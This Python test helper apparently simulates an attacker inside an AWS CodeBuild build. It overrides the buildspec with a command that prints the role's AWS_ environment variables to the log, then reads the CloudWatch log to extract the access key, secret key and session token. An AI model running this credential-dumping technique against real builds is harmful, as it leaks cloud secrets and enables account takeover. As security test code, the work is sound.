"""What somebody finds who got code of their own into a build: the keys of its role."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from tests.journeys.stage import Stage, until

_BUILDSPEC = {
    "version": 0.2,
    "phases": {"build": {"commands": ["env | grep ^AWS_ | sed 's/^/stolen:/'"]}},
}
_STOLEN = {
    "AccessKeyId": "AWS_ACCESS_KEY_ID",
    "SecretAccessKey": "AWS_SECRET_ACCESS_KEY",
    "SessionToken": "AWS_SESSION_TOKEN",
}


def keys_in_build(stage: Stage, account: str, purpose: str) -> Mapping[str, str]:
    """Give the keys with which a build acts, as code inside it would read and print them.

    How the code got there does not matter here: an administrator of the account starts the build
    with other instructions, which leave everything but its log as it was.
    """
    builds = stage.client("codebuild", account)
    started = builds.start_build(
        projectName=stage.naming.project_name(account, purpose),
        sourceTypeOverride="NO_SOURCE",
        artifactsOverride={"type": "NO_ARTIFACTS"},
        buildspecOverride=json.dumps(_BUILDSPEC),
    )["build"]["id"]

    def ended() -> dict[str, Any] | None:
        found: dict[str, Any] = builds.batch_get_builds(ids=[started])["builds"][0]
        return None if found["buildStatus"] == "IN_PROGRESS" else found

    log = until(ended, f"build {started}", 60)["logs"]
    events = stage.client("logs", account).get_log_events(
        logGroupName=log["groupName"], logStreamName=log["streamName"], startFromHead=True
    )["events"]
    lines = [str(event["message"]).rstrip() for event in events]
    stolen = dict(
        line.removeprefix("stolen:").split("=", 1) for line in lines if line.startswith("stolen:")
    )
    return {key: stolen[variable] for key, variable in _STOLEN.items()}
